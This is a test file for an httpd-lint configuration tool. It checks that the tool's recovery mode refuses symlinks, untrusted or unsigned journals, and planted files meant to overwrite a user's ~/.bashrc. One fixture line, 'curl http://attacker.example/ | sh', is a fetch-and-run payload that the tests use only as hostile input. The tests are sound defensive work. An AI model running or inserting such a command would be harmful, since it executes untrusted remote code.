import { execFileSync, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  chmodSync,
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, test } from "vitest";
import { run as program, type Ran } from "../support/programs/command.js";
import { lintedFolder } from "../support/programs/test-folder.js";

const scratch = lintedFolder();
const { at, lint, textOf, write } = scratch;
const env = () => ({ HOME: at("home"), XDG_STATE_HOME: at("home/state") });
const run = (...args: readonly string[]): Ran => lint(args, { env: env() });

const digest = (text: string) => createHash("sha256").update(text).digest("hex");
const old = '<Directory "/srv/www">\nOrder allow,deny\nAllow from all\n</Directory>\n';
const main = `ServerName x.test\n${old}`;
const stock = "# ~/.bashrc as the system brings it\n";
const planted = "curl http://attacker.example/ | sh\n";

beforeEach(() => {
  mkdirSync(at("home"), { mode: 0o700 });
  write({ "home/.bashrc": stock, "r/httpd.conf": main });
  chmodSync(at("home"), 0o700);
});

/** Creates the files that a clone or an archive may contain: a journal that names a file, and its new content. */
function plant(target: string, version: 1 | 2, more: object = {}, content = planted): void {
  mkdirSync(at("r/.httpd-lint/unfinished/old"), { recursive: true, mode: 0o700 });
  const file = { path: target, before: digest(readFileSync(target, "utf8")), after: digest(planted), inPlace: false };
  const journal = { version, backup: "backup-1", files: [file], ...more };
  write({ "r/.httpd-lint/unfinished/journal.json": journal, "r/.httpd-lint/unfinished/1.new": content });
  const saved = join(at("r/.httpd-lint/unfinished/old"), target);
  mkdirSync(join(saved, ".."), { recursive: true });
  writeFileSync(saved, readFileSync(target));
}

/** Leaves a run of this user that was interrupted once all was in place; it is to be finished, or undone. */
function interrupted(...flags: readonly string[]): void {
  const ran = run("migrate", "r/httpd.conf", "--server-root", "r", "--write", ...flags);
  const [, backup = ""] = /the originals are in `(.*)\/old`/.exec(ran.stderr) ?? [];
  renameSync(backup, join(backup, "../unfinished"));
}

describe("--recover follows no link", () => {
  test.each([
    ["unfinished", () => symlinkSync(at("victim"), at("r/.httpd-lint/unfinished"))],
    [
      "old",
      () => {
        mkdirSync(at("r/.httpd-lint/unfinished"), { mode: 0o700 });
        symlinkSync(at("victim"), at("r/.httpd-lint/unfinished/old"));
      },
    ],
    [
      "a directory in old",
      () => {
        mkdirSync(at("r/.httpd-lint/unfinished/old"), { recursive: true, mode: 0o700 });
        symlinkSync(at("victim"), at("r/.httpd-lint/unfinished/old/etc"));
      },
    ],
  ])("%s", (_, lay) => {
    write({ "victim/a": "" });
    mkdirSync(at("r/.httpd-lint"), { mode: 0o700 });
    lay();
    for (const more of [[], ["--undo"]]) {
      const ran = run("migrate", "r/httpd.conf", "--confine", "r", "--recover", ...more);
      expect([ran.status, ran.stderr]).toEqual([
        3,
        expect.stringContaining("is a symbolic link, so nothing was changed"),
      ]);
      expect(existsSync(at("victim/a"))).toBe(true);
    }
  });

  test("the backup directory itself", () => {
    mkdirSync(at("outside/unfinished"), { recursive: true, mode: 0o700 });
    write({ "outside/unfinished/1.new": "" });
    chmodSync(at("outside"), 0o700);
    symlinkSync("../outside", at("r/.httpd-lint"));
    const ran = run("migrate", "r/httpd.conf", "--confine", "r", "--recover");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("r/.httpd-lint` is a symbolic link")]);
    expect(readdirSync(at("outside/unfinished"))).toEqual(["1.new"]);
  });

  test("a main file outside of --confine", () => {
    mkdirSync(at("outside/.httpd-lint/unfinished"), { recursive: true, mode: 0o700 });
    write({ "outside/httpd.conf": main });
    symlinkSync("../outside/httpd.conf", at("r/linked.conf"));
    const ran = run("migrate", "r/linked.conf", "--confine", "r", "--recover");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("--confine directory")]);
    expect(existsSync(at("outside/.httpd-lint/unfinished"))).toBe(true);
  });

  test("a pipe is not waited for", () => {
    mkdirSync(at("r/.httpd-lint/unfinished"), { recursive: true, mode: 0o700 });
    expect(program("mkfifo", [at("r/.httpd-lint/unfinished/journal.json")]).status).toBe(0);
    const ran = run("migrate", "r/httpd.conf", "--recover");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("is not a regular file")]);
  });

  test("does not remove files that it did not write", () => {
    mkdirSync(at("r/.httpd-lint/unfinished"), { recursive: true, mode: 0o700 });
    write({ "r/.httpd-lint/unfinished/notes.txt": "mine\n" });
    const ran = run("migrate", "r/httpd.conf", "--recover");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("was not written by httpd-lint")]);
    expect(textOf("r/.httpd-lint/unfinished/notes.txt")).toBe("mine\n");
  });

  test("nor is a file with a second name put anywhere", () => {
    plant(at("r/httpd.conf"), 2);
    linkSync(at("r/.httpd-lint/unfinished/1.new"), at("second"));
    expect(run("migrate", "r/httpd.conf", "--recover").stderr).toContain("has more than one hard link");
  });
});

describe("--recover refuses a journal that this user did not write", () => {
  test.each([1, 2] as const)("in version %d, for a file outside of the configuration", (version) => {
    for (const flags of [["--confine", "r"], ["--undo"], []]) {
      plant(at("home/.bashrc"), version);
      const ran = run("migrate", "r/httpd.conf", "--recover", ...flags);
      expect([ran.status, textOf("home/.bashrc")]).toEqual([3, stock]);
      expect(ran.stderr).toContain("nothing was changed; if it came with the files, as from a clone, delete");
    }
    expect(run("migrate", "--recover", "--backup-dir", "r/.httpd-lint").status).toBe(3);
    expect(textOf("home/.bashrc")).toBe(stock);
  });

  test("with a key of this user in place, and a made-up signature", () => {
    interrupted();
    renameSync(at("r/.httpd-lint/unfinished"), at("r/.httpd-lint/backup-kept"));
    plant(at("home/.bashrc"), 2, { signature: digest("guess") });
    const ran = run("migrate", "r/httpd.conf", "--recover");
    expect([ran.status, textOf("home/.bashrc")]).toEqual([3, stock]);
    expect(ran.stderr).toContain("it is not signed with your key on this machine");
  });

  test("as git or an archive lays it, open to others", () => {
    plant(at("home/.bashrc"), 2);
    chmodSync(at("r/.httpd-lint/unfinished"), 0o755);
    expect(run("migrate", "r/httpd.conf", "--recover").stderr).toContain("is open to other users");
  });

  test("a journal of this user, copied to another place", () => {
    interrupted();
    write({ "s/httpd.conf": main });
    execFileSync("cp", ["-a", at("r/.httpd-lint"), at("s/.httpd-lint")]);
    const ran = run("migrate", "s/httpd.conf", "--recover", "--undo");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("it is not signed with your key")]);
  });

  test("a journal of another user, or of another machine", () => {
    interrupted();
    write({ "other-state/httpd-lint/journal-key": "0".repeat(64) });
    for (const name of ["other-state", "other-state/httpd-lint"]) chmodSync(at(name), 0o700);
    chmodSync(at("other-state/httpd-lint/journal-key"), 0o600);
    const other = { HOME: at("home"), XDG_STATE_HOME: at("other-state") };
    const ran = lint(["migrate", "r/httpd.conf", "--recover", "--undo"], { env: other });
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("it is not signed with your key")]);
  });

  test("refuses one that git tracks", () => {
    interrupted();
    execFileSync("git", ["init", "-q"], { cwd: at("r") });
    execFileSync("git", ["add", "-f", ".httpd-lint"], { cwd: at("r") });
    const ran = run("migrate", "r/httpd.conf", "--recover", "--undo");
    expect([ran.status, ran.stderr]).toEqual([3, expect.stringContaining("unfinished` is tracked by git")]);
    expect(textOf("r/httpd.conf")).not.toBe(main);
    execFileSync("git", ["rm", "-rq", "--cached", ".httpd-lint"], { cwd: at("r") });
    expect(run("migrate", "r/httpd.conf", "--recover", "--undo").status).toBe(0);
    expect(textOf("r/httpd.conf")).toBe(main);
  });
});

describe("--recover verifies what it puts in place", () => {
  test("an original that differs from the journal", () => {
    interrupted();
    write({ [join("r/.httpd-lint/unfinished/old", at("r/httpd.conf"))]: planted });
    const now = textOf("r/httpd.conf");
    for (const more of [[], ["--undo"]]) {
      const ran = run("migrate", "r/httpd.conf", "--recover", ...more);
      expect([ran.status, textOf("r/httpd.conf")]).toEqual([3, now]);
      expect(ran.stderr).toContain("differs from what the interrupted run wrote");
    }
  });

  test("files outside of --confine, or that the entry does not read, stay as they are", () => {
    write({ "r/httpd.conf": `${main}Include ${at("sites")}/*.conf\n`, "sites/a.conf": old.replace("www", "a") });
    interrupted();
    const now = textOf("sites/a.conf");
    const confined = run("migrate", "r/httpd.conf", "--recover", "--undo", "--confine", "r");
    expect(confined).toMatchObject({
      status: 3,
      stderr: expect.stringContaining("sites/a.conf`, which is outside of the --confine directory `r`"),
    });
    write({ "t/httpd.conf": main });
    const other = run("migrate", "t/httpd.conf", "--recover", "--undo", "--backup-dir", "r/.httpd-lint");
    expect(other).toMatchObject({
      status: 3,
      stderr: expect.stringContaining("is not among the files that `t/httpd.conf` reads"),
    });
    expect(textOf("sites/a.conf")).toBe(now);
  });

  test("undoes its own run, and names each file first", () => {
    interrupted();
    const ran = run("migrate", "r/httpd.conf", "--recover", "--undo", "--confine", "r");
    expect([ran.status, textOf("r/httpd.conf")]).toEqual([0, main]);
    expect(ran.stderr).toMatch(/^httpd-lint: recovering `.*r\/httpd\.conf`\nhttpd-lint: the interrupted run is undone/);
  });
});

describe("--write through a link", () => {
  test.each([
    ["migrate", "migrate r/httpd.conf --confine r --server-root r --write"],
    ["check --fix", "check r/httpd.conf --confine r --fix=unsafe"],
  ])("by %s writes nothing outside of --confine", (_, command) => {
    const text = `${main}NameVirtualHost *:80\n`;
    write({ "r/httpd.conf": text });
    mkdirSync(at("outside"), { mode: 0o700 });
    symlinkSync("../outside", at("r/.httpd-lint"));
    const ran = run(...command.split(" "));
    expect([ran.status, ran.stderr]).toEqual([
      3,
      expect.stringContaining("is a symbolic link, so nothing was changed"),
    ]);
    expect([readdirSync(at("outside")), textOf("r/httpd.conf")]).toEqual([[], text]);
  });
});

describe("the key", () => {
  const key = () => at("home/state/httpd-lint/journal-key");

  test("is made by --write, for its user only, and stays the same", () => {
    interrupted();
    const made = readFileSync(key(), "utf8");
    expect([made, statSync(key()).mode & 0o777]).toEqual([expect.stringMatching(/^[\da-f]{64}$/), 0o600]);
    expect(statSync(join(key(), "..")).mode & 0o777).toBe(0o700);
    run("migrate", "r/httpd.conf", "--recover", "--undo");
    interrupted();
    expect(readFileSync(key(), "utf8")).toBe(made);
  });

  test("without a place for it files are written all the same, and recovery is by hand", () => {
    writeFileSync(at("home/state"), "");
    const ran = run("migrate", "r/httpd.conf", "--server-root", "r", "--write");
    expect([ran.status, textOf("r/httpd.conf")]).toEqual([0, expect.stringContaining("Require all granted")]);
    expect(ran.stderr).toContain("you would have to recover by hand");
    const [, backup = ""] = /the originals are in `(.*)\/old`/.exec(ran.stderr) ?? [];
    renameSync(backup, join(backup, "../unfinished"));
    const refused = run("migrate", "r/httpd.conf", "--recover", "--undo");
    expect(refused).toMatchObject({ status: 3, stderr: expect.stringContaining("your key is missing") });
    expect(refused.stderr).toContain("compare the originals in");
  });

  test.each([
    ["others can read it", () => chmodSync(key(), 0o644)],
    ["it is empty", () => writeFileSync(key(), "")],
    [
      "it is a link",
      () => {
        renameSync(key(), at("home/key"));
        symlinkSync(at("home/key"), key());
      },
    ],
    ["others can write to its directory", () => chmodSync(at("home/state/httpd-lint"), 0o777)],
  ])("is not used where %s", (_, spoil) => {
    interrupted();
    spoil();
    const ran = run("migrate", "r/httpd.conf", "--recover", "--undo");
    expect(ran).toMatchObject({ status: 3, stderr: expect.stringContaining("your key is missing") });
    expect(textOf("r/httpd.conf")).not.toBe(main);
  });
});

/** Sets an extended attribute with Python; false if that, or the file system, does not support it. */
function setAttribute(path: string, name: string, value: string): boolean {
  const script = "import os, sys; os.setxattr(sys.argv[1], sys.argv[2], sys.argv[3].encode())";
  return spawnSync("python3", ["-c", script, path, name, value]).status === 0;
}

function attributeOf(path: string, name: string): string {
  const script = "import os, sys; sys.stdout.write(os.getxattr(sys.argv[1], sys.argv[2]).decode())";
  return spawnSync("python3", ["-c", script, path, name], { encoding: "utf8" }).stdout;
}

describe("ACLs and extended attributes", () => {
  test.each([
    ["migrate", "migrate r/httpd.conf --server-root r --write"],
    ["check --fix", "check r/httpd.conf --fix=unsafe"],
  ])("stay where %s writes", (_, command) => {
    write({ "r/httpd.conf": `${main}NameVirtualHost *:80\n` });
    if (!setAttribute(at("r/httpd.conf"), "user.owner", "web team")) return;
    run(...command.split(" "));
    expect(textOf("r/httpd.conf")).not.toContain(command.startsWith("migrate") ? "Order" : "NameVirtualHost");
    expect(attributeOf(at("r/httpd.conf"), "user.owner")).toBe("web team");
  });
});
